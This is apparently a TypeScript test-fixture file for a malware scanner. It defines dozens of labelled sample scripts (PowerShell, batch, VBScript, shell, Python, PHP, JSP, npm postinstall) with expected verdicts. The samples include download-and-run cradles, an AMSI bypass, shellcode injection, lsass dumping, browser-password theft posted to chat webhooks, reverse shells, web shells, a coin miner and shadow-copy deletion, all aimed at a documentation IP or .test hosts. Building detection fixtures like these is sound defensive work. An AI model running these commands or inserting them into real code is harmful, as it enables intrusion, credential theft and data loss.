// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are variables of the shell
// Harmless files that show the traits of attacks: names under .test, commands that start calculators, code that is never run.
// Each names the least label and the reasons that must be among its findings (of the file or of one inside it).
import { encodeScript } from '../../../src/file/formats/script/encoded-script.ts'
import { containerSuspects } from './suspect-containers.ts'
import { documentSuspects } from './suspect-documents.ts'
import { packageSuspects } from './suspect-packages.ts'
import { programSuspects } from './suspect-programs.ts'

export interface Suspect {
  readonly name: string
  readonly bytes: Uint8Array
  readonly label: 'suspicious' | 'malicious'
  readonly reasons: readonly string[]
}

const wide = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const b64 = (text: string): string => Buffer.from(text).toString('base64')
const text = (name: string, label: Suspect['label'], reasons: readonly string[], body: string): Suspect => ({
  name,
  bytes: Buffer.from(body),
  label,
  reasons,
})

const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"
const fetchAndRun =
  'Invoke-WebRequest -Uri http://203.0.113.7/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe'

const powershell: readonly Suspect[] = [
  text('cradle.ps1', 'suspicious', ['script_runs_downloaded_text'], cradle),
  text('fetch.ps1', 'suspicious', ['script_downloads_and_runs'], fetchAndRun),
  text(
    'fetch-hidden.ps1',
    'malicious',
    ['script_downloads_and_runs', 'script_conceals_itself'],
    `powershell -NoP -W Hidden -Ep Bypass -Enc ${wide(cradle)}`,
  ),
  text(
    'joined.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    "$a='I'+'EX';$b='Down'+'loadStr'+'ing';&$a ((New-Object ('Net.'+'WebClient')).$b('http://203.0.113.7/x'))\niex (iwr http://203.0.113.7/x)",
  ),
  text(
    'amsi.ps1',
    'malicious',
    ['script_bypasses_amsi'],
    "[Ref].Assembly.GetType('System.Management.Automation.'+'Amsi'+'Utils').GetField('amsi'+'InitFailed','NonPublic,Static').SetValue($null,$true)",
  ),
  text(
    'etw.ps1',
    'suspicious',
    ['script_disables_defences'],
    "$p=[Win32]::GetProcAddress($h,'EtwEventWrite'); [Win32]::VirtualProtect($p,[uint32]1,0x40,[ref]$o); [Runtime.InteropServices.Marshal]::Copy($b,0,$p,1)",
  ),
  text(
    'tcp.ps1',
    'malicious',
    ['script_powershell_reverse_shell'],
    "$c=New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String)}",
  ),
  text(
    'inject.ps1',
    'malicious',
    ['script_injects_code'],
    '$k=Add-Type -MemberDefinition \'[DllImport("kernel32")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c,uint d);[DllImport("kernel32")]public static extern IntPtr CreateThread(IntPtr a,uint b,IntPtr c,IntPtr d,uint e,IntPtr f);\' -Name W -PassThru;$m=$k::VirtualAlloc(0,4096,0x3000,0x40);[Runtime.InteropServices.Marshal]::Copy($code,0,$m,$code.Length);$k::CreateThread(0,0,$m,0,0,0)',
  ),
  text(
    'reflect.ps1',
    'suspicious',
    ['script_loads_assembly_from_memory'],
    "$b=(New-Object Net.WebClient).DownloadData('http://203.0.113.7/l.dll');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,@())",
  ),
  text(
    'defender.ps1',
    'suspicious',
    ['script_disables_defences'],
    'Set-MpPreference -DisableRealtimeMonitoring $true\nAdd-MpPreference -ExclusionPath C:\\\n',
  ),
  text(
    'run-key.ps1',
    'malicious',
    ['script_persists', 'script_downloads_and_runs'],
    `${fetchAndRun}\npowershell -w hidden -c "exit"\nNew-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value $env:TEMP\\a.exe`,
  ),
  text(
    'chars.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    `-join ((${[...Buffer.from(cradle)].join(',')}) | % {[char]$_}) | iex`,
  ),
  text(
    'browser.ps1',
    'suspicious',
    ['script_steals_secrets'],
    'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" $env:TEMP\\l.db\nInvoke-RestMethod -Uri https://api.telegram.org/bot123:abc/sendDocument -Method Post -InFile $env:TEMP\\l.db',
  ),
  text(
    'lsass.ps1',
    'suspicious',
    ['script_steals_secrets'],
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump (Get-Process lsass).Id C:\\Users\\Public\\l.dmp full',
  ),
  text(
    'wmi.ps1',
    'suspicious',
    ['script_persists'],
    '$f=Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name="x"}\n$c=Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{CommandLineTemplate="calc"}',
  ),
  text(
    'shadow.ps1',
    'suspicious',
    ['script_destroys_recovery'],
    'Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }\nvssadmin delete shadows /all /quiet',
  ),
  text(
    'format.ps1',
    'suspicious',
    ['script_runs_downloaded_text'],
    "$x=('{2}{0}{1}' -f 'wnloadStr','ing','Do'); iex ((New-Object Net.WebClient).$x('http://203.0.113.7/p')); IEX (New-Object Net.WebClient).('{1}{0}' -f 'String','Download')('http://203.0.113.7/p')\niwr http://203.0.113.7/p | iex",
  ),
  text('tool.ps1', 'suspicious', ['script_is_attack_tool'], 'Import-Module .\\x.ps1; Invoke-Mimikatz -DumpCreds'),
]

const windows: readonly Suspect[] = [
  text(
    'encoded.bat',
    'malicious',
    ['script_conceals_itself', 'script_runs_downloaded_text'],
    `@echo off\r\nstart /min powershell -w hidden -enc ${wide(cradle)}\r\n`,
  ),
  text(
    'certutil.bat',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'certutil -urlcache -split -f http://203.0.113.7/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe',
  ),
  text(
    'carets.cmd',
    'suspicious',
    ['script_uses_system_tool_to_fetch', 'script_conceals_itself'],
    'c^e^r^t^u^t^i^l -u^r^l^c^a^c^h^e -s^p^l^i^t -f h^t^t^p^:^/^/203.0.113.7/a.exe a.exe & a.exe',
  ),
  text(
    'substring.bat',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'set q=abcdefghijklmnopqrstuvwxyz:/.\r\n%q:~12,1%%q:~18,1%%q:~7,1%%q:~19,1%%q:~0,1% %q:~7,1%%q:~19,1%%q:~19,1%%q:~15,1%%q:~26,1%%q:~27,1%%q:~27,1%files.test/a.hta',
  ),
  text('mshta.bat', 'suspicious', ['script_uses_system_tool_to_fetch'], 'mshta http://files.test/a.hta'),
  text(
    'regsvr.cmd',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'regsvr32 /s /n /u /i:http://files.test/a.sct scrobj.dll',
  ),
  text(
    'bits.bat',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    'bitsadmin /transfer j /download /priority high http://203.0.113.7/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe',
  ),
  text(
    'ransom.bat',
    'malicious',
    ['script_destroys_recovery', 'script_disables_defences'],
    'vssadmin delete shadows /all /quiet\r\nbcdedit /set {default} recoveryenabled No\r\nwbadmin delete catalog -quiet\r\nnet stop WinDefend\r\nsc delete WinDefend\r\n',
  ),
  text(
    'self.bat',
    'suspicious',
    ['script_drops_decoded_file'],
    `@echo off\r\nfindstr /b "::x" "%~f0" > %TEMP%\\p.txt\r\ncertutil -decode %TEMP%\\p.txt %TEMP%\\p.exe\r\nstart /b %TEMP%\\p.exe\r\npowershell -w hidden Start-Process %TEMP%\\p.exe\r\n-----BEGIN CERTIFICATE-----\r\n${b64('just text, no program at all, repeated a little: no program at all')}\r\n-----END CERTIFICATE-----\r\n`,
  ),
  text(
    'uac.bat',
    'suspicious',
    ['script_disables_defences'],
    'reg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d "cmd /c calc" /f\r\nfodhelper.exe',
  ),
  text(
    'run.vbs',
    'suspicious',
    ['script_downloads_and_runs'],
    'Set h = CreateObject("MSXML2.XMLHTTP")\r\nh.Open "GET", "http://203.0.113.7/a.exe", False\r\nh.Send\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type = 1\r\ns.Open\r\ns.Write h.responseBody\r\ns.SaveToFile "C:\\Users\\Public\\a.exe", 2\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe", 0, False\r\n',
  ),
  text(
    'chr.vbs',
    'suspicious',
    ['script_conceals_itself'],
    `x = ${[...'powershell -w hidden -c calc'].map((char) => `Chr(${char.charCodeAt(0)})`).join(' & ')}\r\nCreateObject(${[...'WScript.Shell'].map((char) => `Chr(${char.charCodeAt(0)})`).join('&')}).Run x, 0\r\n`,
  ),
  text(
    'execute.vbs',
    'suspicious',
    ['script_runs_decoded_code'],
    `Execute(StrReverse("${[...'CreateObject(""WScript.Shell"").Run ""calc""'].reverse().join('')}"))\r\n`,
  ),
  text(
    'base64.vbs',
    'suspicious',
    ['script_drops_decoded_file'],
    'Set d = CreateObject("Microsoft.XMLDOM").createElement("x")\r\nd.DataType = "bin.base64"\r\nd.Text = "aGVsbG8="\r\nSet s = CreateObject("ADODB.Stream")\r\ns.Type=1\r\ns.Open\r\ns.Write d.NodeTypedValue\r\ns.SaveToFile "C:\\Users\\Public\\a.exe"\r\nCreateObject("WScript.Shell").Run "C:\\Users\\Public\\a.exe"\r\n',
  ),
  text(
    'wmi.vbs',
    'suspicious',
    ['script_starts_process_indirectly'],
    'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\r\nw.Create "powershell -w hidden -enc ' +
      wide(cradle) +
      '", Null, Null, p\r\n',
  ),
  text(
    'moniker.vbs',
    'suspicious',
    ['script_starts_process_indirectly'],
    'Set m = CreateObject("MMC20.Application")\r\nm.Document.ActiveView.ExecuteShellCommand "cmd", Null, "/c powershell -w hidden iwr http://203.0.113.7/a.ps1 | iex", "7"\r\n',
  ),
  text(
    'encoded.vbe',
    'suspicious',
    ['script_is_encoded'],
    encodeScript(
      'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c certutil -urlcache -f http://203.0.113.7/a.exe a.exe", 0\r\n',
    ),
  ),
  text(
    'encoded.jse',
    'malicious',
    ['script_is_encoded', 'script_downloads_and_runs'],
    encodeScript(
      'var h=new ActiveXObject("MSXML2.XMLHTTP");h.open("GET","http://203.0.113.7/a.exe",false);h.send();var s=new ActiveXObject("ADODB.Stream");s.Type=1;s.Open();s.Write(h.responseBody);s.SaveToFile("C:\\\\Users\\\\Public\\\\a.exe",2);new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\a.exe",0);',
    ),
  ),
  text(
    'dropper.js',
    'malicious',
    ['script_downloads_and_runs', 'script_conceals_itself'],
    'var sh=new ActiveXObject("WSc"+"ript.Sh"+"ell");var h=new ActiveXObject("MSX"+"ML2.XMLHTTP");h["o"+"pen"]("GET","http://203.0.113.7/a.exe",0);h["se"+"nd"]();var st=new ActiveXObject("ADODB.Stream");st.Open();st.Type=1;st.Write(h.responseBody);st.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%")+"\\\\a.exe");sh["R"+"un"]("cmd /c %TEMP%\\\\a.exe",0,false);var z="a"+"b"+"c"+"d"+"e"+"f";',
  ),
  text(
    'charcode.js',
    'suspicious',
    ['script_runs_decoded_code'],
    `eval(String.fromCharCode(${[...'new ActiveXObject("WScript.Shell").Run("calc",0)'].map((char) => char.charCodeAt(0)).join(',')}))`,
  ),
  text(
    'blob.wsf',
    'suspicious',
    ['script_downloads_and_runs'],
    '<job id="a"><script language="VBScript"><![CDATA[\r\nSet h = CreateObject("WinHttp.WinHttpRequest.5.1")\r\nh.Open "GET", "http://203.0.113.7/x", False\r\nCreateObject("WScript.Shell").Run "cmd /c calc", 0\r\n]]></script></job>',
  ),
  text(
    'tool.hta',
    'malicious',
    ['html_application_runs_program'],
    `<html><head><HTA:APPLICATION WINDOWSTATE="minimize"></head><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden -enc ${wide(cradle)}", 0\r\nself.close</script></html>`,
  ),
  text(
    'run.reg',
    'suspicious',
    ['script_persists'],
    'Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"u"="powershell -w hidden -c \\"iwr http://203.0.113.7/a.ps1 | iex\\""\r\n',
  ),
  text(
    'setup.inf',
    'suspicious',
    ['script_uses_system_tool_to_fetch'],
    '[version]\r\nSignature=$CHICAGO$\r\n[DefaultInstall_SingleUser]\r\nRunPreSetupCommands=x\r\n[x]\r\nregsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll\r\n',
  ),
]

const unix: readonly Suspect[] = [
  text(
    'reverse.sh',
    'malicious',
    ['script_opens_reverse_shell'],
    '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n',
  ),
  text(
    'mkfifo.sh',
    'malicious',
    ['script_opens_reverse_shell'],
    '#!/bin/sh\nrm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n',
  ),
  text(
    'bot.sh',
    'suspicious',
    ['script_runs_download_from_temp'],
    '#!/bin/sh\ncd /tmp || cd /var/run\nfor a in mips arm x86; do wget http://203.0.113.7/b.$a -O /tmp/.b; chmod 777 /tmp/.b; /tmp/.b; rm /tmp/.b; done\nhistory -c\n',
  ),
  text(
    'miner.sh',
    'malicious',
    ['script_mines_coins', 'script_disables_defences'],
    '#!/bin/sh\npkill -9 kinsing; pkill xmrig\nsetenforce 0\ncurl -s http://203.0.113.7/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x -o stratum+tcp://pool.test:3333\n(crontab -l; echo "* * * * * curl http://203.0.113.7/a | sh") | crontab -\n',
  ),
  text(
    'base64.sh',
    'suspicious',
    ['script_runs_decoded_code'],
    `#!/bin/bash\necho ${b64('curl http://203.0.113.7/a.sh | bash')} | base64 -d | bash\n`,
  ),
  text(
    'preload.sh',
    'suspicious',
    ['script_persists'],
    '#!/bin/sh\ncp /tmp/h.so /usr/local/lib/h.so\necho /usr/local/lib/h.so >> /etc/ld.so.preload\nunset HISTFILE\n',
  ),
  text(
    'keys.sh',
    'suspicious',
    ['script_persists'],
    '#!/bin/sh\necho "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys\ncurl http://203.0.113.7/a | sh\n',
  ),
  text(
    'disguised.sh',
    'suspicious',
    ['script_runs_download_from_temp'],
    '#!/bin/sh\nw""get${IFS}http://203.0.113.7/a${IFS}-O${IFS}/tmp/.a\nc""url${IFS}http://203.0.113.7/b -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a\n',
  ),
  text(
    'stealer.sh',
    'suspicious',
    ['script_steals_secrets'],
    '#!/bin/bash\nosascript -e \'display dialog "macOS needs your password" default answer "" with hidden answer\'\nsecurity dump-keychain -d login.keychain\ncurl -F f=@/tmp/k http://203.0.113.7/u\n',
  ),
  text(
    'wipe.sh',
    'suspicious',
    ['script_wipes_logs'],
    '#!/bin/sh\nrm -rf /var/log/wtmp /var/log/secure\nunset HISTFILE; history -c\necho Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYSB8IHNo | base64 -d | sh\n',
  ),
  text(
    'exec.py',
    'suspicious',
    ['script_runs_decoded_code'],
    `import base64\nexec(base64.b64decode("${b64("import os\nos.system('curl http://203.0.113.7/a | sh')\n")}"))\n`,
  ),
  text(
    'reverse.py',
    'malicious',
    ['script_opens_reverse_shell'],
    'import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.7",4444))\nos.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call(["/bin/sh","-i"])\n',
  ),
  text(
    'shellcode.py',
    'malicious',
    ['script_injects_code'],
    'import ctypes\nbuf = b"\\x90\\x90"\np = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, buf, len(buf))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)\n',
  ),
  text(
    'remote.py',
    'suspicious',
    ['script_runs_downloaded_text'],
    'import requests\nexec(requests.get("http://203.0.113.7/a.py").text)\n',
  ),
  text(
    'grabber.py',
    'suspicious',
    ['script_steals_secrets', 'script_reports_to_chat_service'],
    'import os, sqlite3, requests, win32crypt\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\ndb = sqlite3.connect(p)\nfor r in db.execute("select * from logins"): win32crypt.CryptUnprotectData(r[2])\nrequests.post("https://discord.com/api/webhooks/1/a", json={})\n',
  ),
  text('shell.php', 'malicious', ['script_is_web_shell'], '<?php @eval($_POST["x"]); ?>'),
  text('cmd.php', 'malicious', ['script_is_web_shell'], '<?php if(isset($_GET["c"])){ system($_GET["c"]); } ?>'),
  text(
    'packed.php',
    'suspicious',
    ['script_runs_decoded_code'],
    `<?php eval(base64_decode("${b64('file_put_contents("/tmp/x", file_get_contents("http://203.0.113.7/a"));')}")); ?>`,
  ),
  text(
    'shell.jsp',
    'malicious',
    ['script_is_web_shell'],
    '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
  ),
  text(
    'postinstall.js',
    'suspicious',
    ['script_runs_downloaded_text'],
    "const https = require('https')\nhttps.get('http://203.0.113.7/a.js', (r) => { let d = ''; r.on('data', (c) => d += c); r.on('end', () => eval(d)) })\nrequire('child_process').exec('curl http://203.0.113.7/b | sh')\n",
  ),
]

export const suspects: readonly Suspect[] = [
  ...powershell,
  ...windows,
  ...unix,
  ...documentSuspects,
  ...packageSuspects,
  ...programSuspects,
  ...containerSuspects,
]
